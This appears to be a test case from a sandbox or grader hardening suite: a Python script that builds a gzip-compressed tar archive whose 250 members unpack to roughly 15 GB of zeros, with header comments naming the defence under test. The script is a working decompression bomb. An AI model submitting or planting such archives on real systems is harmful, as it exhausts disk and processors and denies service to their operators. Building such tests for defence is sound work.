# Attack:  an archive that is a thousand times as large as it looks
# Lab:     fork
# Defence: time-to-unpack
# Without: late
# Slow:    two processors are busy with it as long as they may
# Where:   bubblewrap own uid user user-own unconfined
import gzip
import io
import os
import sys
import tarfile

SIZE = 60 << 20  # of one file: what a box lets a program write
COUNT = 250

header = tarfile.TarInfo("server.c")
header.size = SIZE
member = gzip.compress(header.tobuf() + bytes(SIZE))
path = os.path.join(sys.argv[1], "submission.tar.gz")
with open(path, "wb") as file:
    for _ in range(COUNT):
        file.write(member)
print(path)
